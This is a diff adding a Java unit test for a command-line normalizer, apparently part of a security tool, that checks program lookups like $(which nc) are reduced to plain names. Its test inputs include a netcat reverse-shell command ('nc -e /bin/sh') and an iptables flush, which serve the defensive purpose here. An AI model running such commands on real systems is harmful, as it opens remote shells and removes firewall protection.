@@ -13,6 +13,14 @@ class CommandLineNormalizerTest {
     }
 
     @Test
+    void aProgramLookedUpWhereItIsNamedReadsAsItsName() {
+        assertThat(CommandLineNormalizer.normalize("$(which nc) -e /bin/sh h 1", false)).isEqualTo("nc -e /bin/sh h 1");
+        assertThat(CommandLineNormalizer.normalize("`command -v IPtables` -F", false)).isEqualTo("iptables -f");
+        assertThat(CommandLineNormalizer.normalize("echo $(which python3 pip)", false)).isEqualTo("echo $(which python3 pip)");
+        assertThat(CommandLineNormalizer.normalize("`which", false)).isEqualTo("`which");
+    }
+
+    @Test
     void aCommandLineSeenBeforeIsReadWithTheRulesAskedForNow() {
         // the same text read as Windows and as POSIX differs (carets, backslashes); the table of
         // recent command lines must not hand one platform's reading to the other
